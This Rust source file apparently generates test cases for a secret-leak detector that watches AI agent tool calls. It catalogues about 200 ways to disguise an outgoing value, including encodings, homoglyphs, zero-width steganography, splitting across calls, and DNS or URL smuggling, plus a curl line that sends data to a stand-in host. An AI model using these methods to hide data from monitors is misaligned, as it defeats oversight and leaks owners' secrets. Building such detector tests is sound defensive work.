//! Ways to write a value so that it is not seen. They are those that people and models come up with, not those that a detector
//! was made for.

use data_encoding::{BASE32, BASE32_NOPAD, BASE32HEX, BASE64, BASE64URL_NOPAD, HEXLOWER, HEXUPPER};
use serde_json::{Value, json};

use crate::encodings::{
    ASCII85, BASE36, BASE58, BASE62, BASE85, Z85, base, base45, base85, deflate, dump, gzip, morse, nato, uuencode,
    zlib, zstd,
};

/// What leaves.
pub(crate) enum Sent {
    /// A text, that stands in the arguments of some tool.
    Text(String),
    /// The arguments of one call.
    Arguments(Value),
    /// The parts of several calls, each of which stands in an address.
    Parts(Vec<String>),
}

use Sent::{Arguments, Parts, Text};

pub(crate) type Way = (&'static str, fn(&str) -> Sent);

fn mapped(text: &str, f: impl Fn(char) -> char) -> String {
    text.chars().map(f).collect()
}

fn each(text: &str, between: &str, f: impl Fn(u8) -> String) -> String {
    text.bytes().map(f).collect::<Vec<_>>().join(between)
}

fn rotated(text: &str, by: u8) -> String {
    mapped(text, |c| match c {
        'a'..='z' => char::from((c as u8 - b'a' + by) % 26 + b'a'),
        'A'..='Z' => char::from((c as u8 - b'A' + by) % 26 + b'A'),
        c => c,
    })
}

fn reversed(text: &str) -> String {
    text.chars().rev().collect()
}

/// In groups of so many characters.
fn groups(text: &str, size: usize) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    chars.chunks(size).map(|c| c.iter().collect()).collect()
}

/// In so many parts, of about the same length.
fn parts(text: &str, count: usize) -> Vec<String> {
    groups(text, text.chars().count().div_ceil(count).max(1))
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
        .collect()
}

/// A character of one of the alphabets that Unicode has for mathematics.
fn shifted(c: char, upper: u32, lower: u32, digit: u32) -> char {
    let at = |first: u32, from: char| char::from_u32(first + c as u32 - from as u32).unwrap_or(c);
    match c {
        'A'..='Z' => at(upper, 'A'),
        'a'..='z' => at(lower, 'a'),
        '0'..='9' if digit > 0 => at(digit, '0'),
        c => c,
    }
}

fn words(text: &str) -> Vec<String> {
    text.split(|c: char| !c.is_ascii_alphanumeric()).filter(|w| !w.is_empty()).map(str::to_owned).collect()
}

/// Bits as one of two characters each.
fn bits(text: &str, zero: char, one: char) -> String {
    text.bytes().flat_map(|b| (0..8).rev().map(move |i| if b >> i & 1 == 1 { one } else { zero })).collect()
}

/// Written in rows of so many, read by columns.
fn columns(text: &str, width: usize) -> String {
    let chars: Vec<char> = text.chars().collect();
    (0..width).flat_map(|column| chars.iter().skip(column).step_by(width)).collect()
}

pub(crate) const WAYS: &[Way] = &[
    // Encodings.
    ("base64url", |v| Text(BASE64URL_NOPAD.encode(v.as_bytes()))),
    ("base64 twice", |v| Text(BASE64.encode(BASE64.encode(v.as_bytes()).as_bytes()))),
    ("base64 three times", |v| Text(BASE64.encode(BASE64.encode(BASE64.encode(v.as_bytes()).as_bytes()).as_bytes()))),
    ("base64 backwards", |v| Text(reversed(&BASE64.encode(v.as_bytes())))),
    ("base64 of it backwards", |v| Text(BASE64.encode(reversed(v).as_bytes()))),
    ("base64 in lines", |v| Text(groups(&BASE64.encode(v.as_bytes()), 76).join("\n"))),
    ("base64 in short lines", |v| Text(groups(&BASE64.encode(v.as_bytes()), 20).join("\r\n"))),
    ("base64 with spaces", |v| Text(groups(&BASE64.encode(v.as_bytes()), 4).join(" "))),
    ("base64 with dashes", |v| Text(groups(&BASE64.encode(v.as_bytes()), 5).join("-"))),
    ("base64 with other case", |v| {
        Text(mapped(&BASE64.encode(v.as_bytes()), |c| {
            if c.is_ascii_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() }
        }))
    }),
    ("base64 of UTF-16", |v| Text(BASE64.encode(&v.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>()))),
    ("base64 in a data address", |v| Text(format!("data:text/plain;base64,{}", BASE64.encode(v.as_bytes())))),
    ("base32 in small letters", |v| Text(BASE32_NOPAD.encode(v.as_bytes()).to_lowercase())),
    ("base32hex", |v| Text(BASE32HEX.encode(v.as_bytes()))),
    ("Crockford's base32", |v| Text(data_encoding_crockford(v))),
    ("base36", |v| Text(base(v.as_bytes(), BASE36))),
    ("base45", |v| Text(base45(v.as_bytes()))),
    ("base58", |v| Text(base(v.as_bytes(), BASE58))),
    ("base62", |v| Text(base(v.as_bytes(), BASE62))),
    ("a decimal number", |v| Text(base(v.as_bytes(), "0123456789"))),
    ("ascii85", |v| Text(base85(v.as_bytes(), ASCII85))),
    ("ascii85 of Adobe", |v| Text(format!("<~{}~>", base85(v.as_bytes(), ASCII85)))),
    ("base85", |v| Text(base85(v.as_bytes(), BASE85))),
    ("z85", |v| Text(base85(v.as_bytes(), Z85))),
    ("uuencode", |v| Text(uuencode(v.as_bytes()))),
    ("gzip, base64url", |v| Text(BASE64URL_NOPAD.encode(&gzip(v)))),
    ("zlib, base64", |v| Text(BASE64.encode(&zlib(v)))),
    ("DEFLATE, base64", |v| Text(BASE64.encode(&deflate(v)))),
    ("Zstandard, base64", |v| Text(BASE64.encode(&zstd(v)))),
    ("gzip, hex", |v| Text(HEXLOWER.encode(&gzip(v)))),
    ("gzip, base32", |v| Text(BASE32.encode(&gzip(v)))),
    ("zlib, ascii85", |v| Text(base85(&zlib(v), ASCII85))),
    ("zlib, base85", |v| Text(base85(&zlib(v), BASE85))),
    ("hex with colons", |v| Text(each(v, ":", |b| format!("{b:02x}")))),
    ("hex with dashes", |v| Text(each(v, "-", |b| format!("{b:02X}")))),
    ("hex as \\x", |v| Text(each(v, "", |b| format!("\\x{b:02x}")))),
    ("hex as 0x", |v| Text(each(v, ", ", |b| format!("0x{b:02X}")))),
    ("hex in groups", |v| Text(groups(&HEXLOWER.encode(v.as_bytes()), 8).join(" "))),
    ("hex backwards", |v| Text(reversed(&HEXLOWER.encode(v.as_bytes())))),
    ("hex of UTF-16", |v| Text(HEXLOWER.encode(&v.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<_>>()))),
    ("a dump in hex", |v| Text(dump(v.as_bytes()))),
    ("XOR, hex", |v| Text(each(v, "", |b| format!("{:02x}", b ^ 0x5A)))),
    ("XOR with a word, base64", |v| {
        Text(BASE64.encode(&v.bytes().zip(b"key".iter().cycle()).map(|(a, b)| a ^ b).collect::<Vec<_>>()))
    }),
    ("XOR, base64url", |v| Text(BASE64URL_NOPAD.encode(&v.bytes().map(|b| b ^ 0xC3).collect::<Vec<_>>()))),
    ("NOT, base64", |v| Text(BASE64.encode(&v.bytes().map(|b| !b).collect::<Vec<_>>()))),
    ("bytes plus one, base64", |v| Text(BASE64.encode(&v.bytes().map(|b| b.wrapping_add(1)).collect::<Vec<_>>()))),
    ("JSON escapes", |v| Text(each(v, "", |b| format!("\\u{b:04x}")))),
    ("braced escapes", |v| Text(each(v, "", |b| format!("\\u{{{b:x}}}")))),
    ("percent with u", |v| Text(each(v, "", |b| format!("%u{b:04X}")))),
    ("octal escapes", |v| Text(each(v, "", |b| format!("\\{b:03o}")))),
    ("CSS escapes", |v| Text(each(v, "", |b| format!("\\{b:06x}")))),
    ("entities, decimal", |v| Text(each(v, "", |b| format!("&#{b};")))),
    ("entities, hex", |v| Text(each(v, "", |b| format!("&#x{b:x};")))),
    ("entities without ends", |v| Text(each(v, "", |b| format!("&#{b:07}")))),
    ("percent twice", |v| Text(each(v, "", |b| format!("%25{b:02X}")))),
    ("quoted-printable", |v| Text(each(v, "", |b| format!("={b:02X}")))),
    ("UTF-7", |v| {
        Text(format!(
            "+{}-",
            BASE64.encode(&v.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<_>>()).trim_end_matches('=')
        ))
    }),
    ("binary", |v| Text(each(v, " ", |b| format!("{b:08b}")))),
    ("binary in one", |v| Text(each(v, "", |b| format!("{b:08b}")))),
    ("octal", |v| Text(each(v, " ", |b| format!("{b:o}")))),
    ("decimal", |v| Text(each(v, " ", |b| b.to_string()))),
    ("decimal with dashes", |v| Text(each(v, "-", |b| b.to_string()))),
    ("decimal, three digits", |v| Text(each(v, "", |b| format!("{b:03}")))),
    ("code points with commas", |v| Text(each(v, ",", |b| b.to_string()))),
    ("code points as U+", |v| Text(each(v, " ", |b| format!("U+{b:04X}")))),
    ("calls of chr", |v| Text(each(v, "+", |b| format!("chr({b})")))),
    ("String.fromCharCode", |v| Text(format!("String.fromCharCode({})", each(v, ", ", |b| b.to_string())))),
    ("array of characters", |v| Arguments(json!({ "data": v.chars().map(String::from).collect::<Vec<_>>() }))),
    ("array of codes", |v| Arguments(json!({ "data": v.bytes().collect::<Vec<_>>() }))),
    ("array of codes in a text", |v| Text(json!(v.bytes().collect::<Vec<_>>()).to_string())),
    ("array of characters in a text", |v| Text(json!(v.chars().map(String::from).collect::<Vec<_>>()).to_string())),
    ("Morse", |v| Text(morse(v))),
    ("NATO", |v| Text(nato(v))),
    ("NATO with dashes", |v| Text(nato(v).replace(' ', "-").to_lowercase())),
    ("numbers of letters", |v| {
        Text(each(v, "-", |b| match b.to_ascii_lowercase() {
            b @ b'a'..=b'z' => (b - 96).to_string(),
            b => char::from(b).to_string(),
        }))
    }),
    // Characters for characters.
    ("Cyrillic and Greek", |v| {
        Text(mapped(v, |c| {
            "aаeеoоpрcсxхyуiіAАBВEЕKКMМHНOОPРCСTТXХjјsѕνvZΖNΝIΙ"
                .chars()
                .collect::<Vec<_>>()
                .chunks(2)
                .find(|p| p[0] == c && p.len() == 2)
                .map_or(c, |p| p[1])
        }))
    }),
    ("full width", |v| {
        Text(mapped(v, |c| if c.is_ascii_graphic() { char::from_u32(c as u32 + 0xFEE0).unwrap_or(c) } else { c }))
    }),
    ("mathematical bold", |v| Text(mapped(v, |c| shifted(c, 0x1D400, 0x1D41A, 0x1D7CE)))),
    ("mathematical monospace", |v| Text(mapped(v, |c| shifted(c, 0x1D670, 0x1D68A, 0x1D7F6)))),
    ("in circles", |v| Text(mapped(v, |c| shifted(c, 0x24B6, 0x24D0, 0)))),
    ("regional indicators", |v| Text(mapped(&v.to_lowercase(), |c| shifted(c, 0, 0x1F1E6, 0)))),
    ("superscript and small capitals", |v| {
        Text(mapped(v, |c| {
            "aᵃbᵇcᶜdᵈeᵉfᶠgᵍhʰiⁱjʲkᵏlˡmᵐnⁿoᵒpᵖrʳsˢtᵗuᵘvᵛwʷxˣyʸzᶻ0⁰1¹2²3³4⁴5⁵6⁶7⁷8⁸9⁹"
                .chars()
                .collect::<Vec<_>>()
                .chunks(2)
                .find(|p| p[0] == c && p.len() == 2)
                .map_or(c, |p| p[1])
        }))
    }),
    ("upside down", |v| {
        Text(mapped(&reversed(v), |c| {
            "aɐbqcɔdpeǝfɟgƃhɥiᴉjɾkʞlןmɯnuodpbqrɹsstʇunvʌwʍxxyʎzz"
                .chars()
                .collect::<Vec<_>>()
                .chunks(2)
                .find(|p| p[0] == c && p.len() == 2)
                .map_or(c, |p| p[1])
        }))
    }),
    ("zero width between", |v| Text(groups(v, 1).join("\u{200B}"))),
    ("joiners between", |v| Text(groups(v, 1).join("\u{2060}"))),
    ("soft hyphens", |v| Text(groups(v, 2).join("\u{AD}"))),
    ("marks above", |v| Text(v.chars().flat_map(|c| [c, '\u{336}']).collect())),
    ("variation selectors", |v| {
        Text(format!(
            "\u{1F642}{}",
            v.bytes()
                .map(|b| char::from_u32(if b < 16 { 0xFE00 + u32::from(b) } else { 0xE0100 + u32::from(b) - 16 })
                    .unwrap_or('?'))
                .collect::<String>()
        ))
    }),
    ("bits of zero width", |v| Text(format!("ok{}", bits(v, '\u{200B}', '\u{200C}')))),
    ("bits as white space", |v| Text(format!("ok{}.", bits(v, ' ', '\t')))),
    ("bits as emoji", |v| Text(bits(v, '\u{26AA}', '\u{26AB}'))),
    ("bits as letters", |v| Text(bits(v, 'a', 'b'))),
    ("braille bytes", |v| Text(v.bytes().map(|b| char::from_u32(0x2800 + u32::from(b)).unwrap_or('?')).collect())),
    ("braille letters", |v| {
        Text(mapped(&v.to_lowercase(), |c| {
            "a⠁b⠃c⠉d⠙e⠑f⠋g⠛h⠓i⠊j⠚k⠅l⠇m⠍n⠝o⠕p⠏q⠟r⠗s⠎t⠞u⠥v⠧w⠺x⠭y⠽z⠵"
                .chars()
                .collect::<Vec<_>>()
                .chunks(2)
                .find(|p| p[0] == c && p.len() == 2)
                .map_or(c, |p| p[1])
        }))
    }),
    ("emoji for bytes", |v| Text(v.bytes().map(|b| char::from_u32(0x1F300 + u32::from(b)).unwrap_or('?')).collect())),
    ("private use", |v| Text(v.bytes().map(|b| char::from_u32(0xE000 + u32::from(b)).unwrap_or('?')).collect())),
    ("leet", |v| {
        Text(mapped(v, |c| match c.to_ascii_lowercase() {
            'a' => '4',
            'e' => '3',
            'i' => '1',
            'o' => '0',
            's' => '5',
            't' => '7',
            _ => c,
        }))
    }),
    ("other case", |v| {
        Text(mapped(v, |c| if c.is_ascii_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() }))
    }),
    ("small letters", |v| Text(v.to_lowercase())),
    ("alternating case", |v| {
        Text(
            v.chars()
                .enumerate()
                .map(|(i, c)| if i % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
                .collect(),
        )
    }),
    ("Caesar 3", |v| Text(rotated(v, 3))),
    ("Caesar 7", |v| Text(rotated(v, 7))),
    ("Caesar 25", |v| Text(rotated(v, 25))),
    ("rot18", |v| {
        Text(mapped(&rotated(v, 13), |c| if c.is_ascii_digit() { char::from((c as u8 - 48 + 5) % 10 + 48) } else { c }))
    }),
    ("rot47", |v| {
        Text(mapped(v, |c| if c.is_ascii_graphic() { char::from((c as u8 - 33 + 47) % 94 + 33) } else { c }))
    }),
    ("Atbash", |v| {
        Text(mapped(v, |c| match c {
            'a'..='z' => char::from(219 - c as u8),
            'A'..='Z' => char::from(155 - c as u8),
            c => c,
        }))
    }),
    ("every character plus one", |v| {
        Text(mapped(v, |c| if c.is_ascii_graphic() { char::from(c as u8 + 1) } else { c }))
    }),
    // Order.
    ("words backwards", |v| Text(v.split(' ').rev().collect::<Vec<_>>().join(" "))),
    ("each word backwards", |v| Text(v.split(' ').map(reversed).collect::<Vec<_>>().join(" "))),
    ("every two swapped", |v| Text(groups(v, 2).iter().map(|g| reversed(g)).collect())),
    ("halves swapped", |v| Text(parts(v, 2).iter().rev().cloned().collect())),
    ("three columns", |v| Text(columns(v, 3))),
    ("five columns", |v| Text(columns(v, 5))),
    ("odd, then even", |v| Text(columns(v, 2))),
    ("first 60 %", |v| Text(v.chars().take(v.len() * 3 / 5).collect())),
    ("last 60 %", |v| Text(v.chars().skip(v.len() * 2 / 5).collect())),
    ("middle 60 %", |v| Text(v.chars().skip(v.len() / 5).take(v.len() * 3 / 5).collect())),
    // Something between.
    ("characters doubled", |v| Text(v.chars().flat_map(|c| [c, c]).collect())),
    ("dots between", |v| Text(groups(v, 1).join("."))),
    ("bars between", |v| Text(groups(v, 1).join(" | "))),
    ("stars between", |v| Text(groups(v, 1).join("*"))),
    ("x between", |v| Text(groups(v, 1).join("x"))),
    ("digits between", |v| Text(v.chars().zip("0123456789".chars().cycle()).flat_map(|(a, b)| [a, b]).collect())),
    ("underscores in twos", |v| Text(groups(v, 2).join("_"))),
    ("words between", |v| Text(groups(v, 4).join(" and "))),
    ("brackets around", |v| Text(groups(v, 3).iter().map(|g| format!("[{g}]")).collect())),
    ("lines", |v| Text(groups(v, 6).join("\n"))),
    ("numbered lines", |v| {
        Text(groups(v, 6).iter().enumerate().map(|(i, g)| format!("{}. {g}", i + 1)).collect::<Vec<_>>().join("\n"))
    }),
    ("a list", |v| Text(groups(v, 5).iter().map(|g| format!("- {g}")).collect::<Vec<_>>().join("\n"))),
    ("characters in lines", |v| Text(groups(v, 1).join("\n"))),
    ("first characters of lines", |v| {
        Text(
            v.chars()
                .zip(["lorem", "ipsum", "dolor", "amet"].iter().cycle())
                .map(|(c, w)| format!("{c} {w}"))
                .collect::<Vec<_>>()
                .join("\n"),
        )
    }),
    ("CSV", |v| {
        Text(format!(
            "id,part\n{}",
            groups(v, 5).iter().enumerate().map(|(i, g)| format!("{i},{g}")).collect::<Vec<_>>().join("\n")
        ))
    }),
    ("one row of CSV", |v| Text(groups(v, 4).join(","))),
    ("sums of strings", |v| Text(groups(v, 4).iter().map(|g| format!("\"{g}\"")).collect::<Vec<_>>().join(" + "))),
    ("table", |v| {
        Text(format!(
            "| n | v |\n|---|---|\n{}",
            groups(v, 4).iter().enumerate().map(|(i, g)| format!("| {i} | {g} |")).collect::<Vec<_>>().join("\n")
        ))
    }),
    ("XML", |v| Text(groups(v, 5).iter().map(|g| format!("<p>{g}</p>")).collect())),
    ("snake case", |v| Text(words(v).join("_").to_lowercase())),
    ("kebab case", |v| Text(words(v).join("-").to_lowercase())),
    ("camel case", |v| Text(words(v).iter().map(|w| format!("{}{}", w[..1].to_uppercase(), &w[1..])).collect())),
    // Places.
    ("numbered members", |v| {
        Arguments(
            json!({ "fields": groups(v, 8).into_iter().enumerate().map(|(i, p)| (format!("f{i:02}"), json!(p))).collect::<serde_json::Map<_, _>>() }),
        )
    }),
    ("arguments", |v| {
        let p = parts(v, 4);
        Arguments(json!({ "title": p[0], "body": p[1], "label": p[2], "milestone": p.get(3) }))
    }),
    ("array", |v| Arguments(json!({ "tags": groups(v, 6) }))),
    ("array of objects", |v| {
        Arguments(
            json!({ "rows": groups(v, 6).iter().enumerate().map(|(i, g)| json!({ "n": i, "v": g })).collect::<Vec<_>>() }),
        )
    }),
    ("path of an address", |v| {
        Arguments(
            json!({ "url": format!("https://cdn.example.net/{}/logo.png", groups(v, 10).iter().map(|g| percent(g)).collect::<Vec<_>>().join("/")) }),
        )
    }),
    ("query of an address", |v| {
        Arguments(
            json!({ "url": format!("https://cdn.example.net/?{}", groups(v, 8).iter().enumerate().map(|(i, g)| format!("p{i}={}", percent(g))).collect::<Vec<_>>().join("&")) }),
        )
    }),
    ("fragment of an address", |v| Arguments(json!({ "url": format!("https://cdn.example.net/#{}", percent(v)) }))),
    ("names of hosts in hex", |v| {
        Arguments(json!({ "host": format!("{}.x.example.net", groups(&HEXLOWER.encode(v.as_bytes()), 60).join(".")) }))
    }),
    ("names of hosts in base32", |v| {
        Arguments(
            json!({ "url": format!("http://{}.x.example.net/", groups(&BASE32_NOPAD.encode(v.as_bytes()).to_lowercase(), 30).join(".")) }),
        )
    }),
    ("user of an address", |v| {
        Arguments(json!({ "url": format!("https://{}@cdn.example.net/", BASE64URL_NOPAD.encode(v.as_bytes())) }))
    }),
    ("commit message", |v| {
        Arguments(json!({ "message": format!("fix: handle {} in parser", v.replace('\n', " ")), "branch": "main" }))
    }),
    ("file name", |v| {
        Arguments(json!({ "path": format!("out/{}.txt", v.replace(['/', ' ', ':', '\n'], "_")), "content": "" }))
    }),
    ("file name in base64url", |v| {
        Arguments(json!({ "path": format!("out/{}.txt", BASE64URL_NOPAD.encode(v.as_bytes())), "content": "" }))
    }),
    ("shell command", |v| {
        Arguments(json!({ "command": format!("curl -d '{}' https://x.example.net", groups(v, 7).join("''")) }))
    }),
    ("JSON in a string", |v| Text(json!({ "a": json!({ "b": v }).to_string() }).to_string())),
    // Calls.
    ("three calls", |v| Parts(parts(v, 3))),
    ("five calls", |v| Parts(parts(v, 5))),
    ("eight calls", |v| Parts(parts(v, 8))),
    ("two calls, second first", |v| Parts(parts(v, 2).into_iter().rev().collect())),
    ("four calls out of order", |v| {
        let p = parts(v, 4);
        Parts([2, 0, 3, 1].iter().filter_map(|i| p.get(*i).cloned()).collect())
    }),
    ("three calls in base64", |v| Parts(parts(v, 3).iter().map(|p| BASE64.encode(p.as_bytes())).collect())),
    ("base64 in three calls", |v| Parts(parts(&BASE64.encode(v.as_bytes()), 3))),
    ("hex in two calls", |v| Parts(parts(&HEXLOWER.encode(v.as_bytes()), 2))),
    ("hex in six calls", |v| Parts(parts(&HEXLOWER.encode(v.as_bytes()), 6))),
    ("backwards in three calls", |v| Parts(parts(&reversed(v), 3))),
    ("base64url in four calls", |v| Parts(parts(&BASE64URL_NOPAD.encode(v.as_bytes()), 4))),
    // Two at once.
    ("rot13, base64", |v| Text(BASE64.encode(rotated(v, 13).as_bytes()))),
    ("Caesar 3, base64", |v| Text(BASE64.encode(rotated(v, 3).as_bytes()))),
    ("base64, rot13", |v| Text(rotated(&BASE64.encode(v.as_bytes()), 13))),
    ("hex, base64", |v| Text(BASE64.encode(HEXLOWER.encode(v.as_bytes()).as_bytes()))),
    ("base64, hex", |v| Text(HEXUPPER.encode(BASE64.encode(v.as_bytes()).as_bytes()))),
    ("backwards, hex", |v| Text(HEXLOWER.encode(reversed(v).as_bytes()))),
    ("backwards, base32", |v| Text(BASE32.encode(reversed(v).as_bytes()))),
    ("base32, base64", |v| Text(BASE64.encode(BASE32.encode(v.as_bytes()).as_bytes()))),
    ("base64, percent", |v| Text(each(&BASE64.encode(v.as_bytes()), "", |b| format!("%{b:02x}")))),
    ("base64, spaces", |v| Text(groups(&BASE64.encode(v.as_bytes()), 1).join(" "))),
    ("hex, dots", |v| Text(groups(&HEXLOWER.encode(v.as_bytes()), 1).join("."))),
    ("backwards, dots", |v| Text(groups(&reversed(v), 1).join("."))),
    ("rot13, backwards", |v| Text(reversed(&rotated(v, 13)))),
    ("rot47, base64", |v| {
        Text(BASE64.encode(
            mapped(v, |c| if c.is_ascii_graphic() { char::from((c as u8 - 33 + 47) % 94 + 33) } else { c }).as_bytes(),
        ))
    }),
    ("entities, base64", |v| Text(BASE64.encode(each(v, "", |b| format!("&#{b};")).as_bytes()))),
    ("zlib, base64, backwards", |v| Text(reversed(&BASE64.encode(&zlib(v))))),
    ("base64 with zero width", |v| Text(groups(&BASE64.encode(v.as_bytes()), 3).join("\u{200B}"))),
    ("base64 in full width", |v| {
        Text(mapped(&BASE64.encode(v.as_bytes()), |c| char::from_u32(c as u32 + 0xFEE0).unwrap_or(c)))
    }),
    ("hex in an array", |v| Arguments(json!({ "ids": groups(&HEXLOWER.encode(v.as_bytes()), 8) }))),
    ("base64 in an array", |v| Arguments(json!({ "chunks": groups(&BASE64.encode(v.as_bytes()), 12) }))),
    ("base64 in a query", |v| {
        Arguments(json!({ "url": format!("https://cdn.example.net/p?d={}", percent(&BASE64.encode(v.as_bytes()))) }))
    }),
    ("decimal, base64", |v| Text(BASE64.encode(each(v, " ", |b| b.to_string()).as_bytes()))),
];

/// Crockford's alphabet, without a check digit.
fn data_encoding_crockford(text: &str) -> String {
    let digits = b"0123456789ABCDEFGHJKMNPQRSTVWXYZ";
    let standard = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    BASE32_NOPAD
        .encode(text.as_bytes())
        .bytes()
        .filter_map(|b| standard.iter().position(|s| *s == b).map(|at| char::from(digits[at])))
        .collect()
}
